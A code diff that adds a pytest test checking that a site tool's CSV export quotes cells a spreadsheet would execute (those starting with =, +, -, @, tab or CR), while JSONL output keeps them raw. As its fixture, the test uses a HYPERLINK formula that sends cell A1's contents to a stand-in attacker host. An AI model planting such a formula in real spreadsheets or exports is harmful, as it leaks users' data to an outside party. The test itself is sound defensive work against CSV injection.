@@ -90,6 +90,25 @@ def test_jsonl_export_to_a_file_holds_the_same_rows(accented, capsysbinary):
     assert [{k: str(v) for k, v in o.items()} for o in objects] == from_csv
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_jsonl_keeps_them(site, capsysbinary):
+    story = site / "content" / "talks"
+    for name, was, outlet in (("alpha", "Alpha News", FORMULA), ("beta", "Beta Daily", "@Beta")):
+        path = story / f"{name}.md"
+        path.write_text(path.read_text().replace(json.dumps(was), json.dumps(outlet)))
+    config = str(site / "site.yml")
+    assert main(["export", "--config", config]) == 0
+    [row] = csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8")))
+    assert (row["outlet_a"], row["outlet_b"]) == ("'" + FORMULA, "'@Beta")
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [value for value in row.values() if value.startswith(starts)]
+    assert main(["export", "--format", "jsonl", "--config", config]) == 0
+    [line] = capsysbinary.readouterr().out.decode("utf-8").splitlines()
+    assert (json.loads(line)["outlet_a"], json.loads(line)["outlet_b"]) == (FORMULA, "@Beta")
+
+
 def test_export_needs_no_build_and_names_an_unknown_story(site, capsys):
     assert main(["export", "nope", "--config", str(site / "site.yml")]) == 1
     assert "no story 'nope'" in capsys.readouterr().err
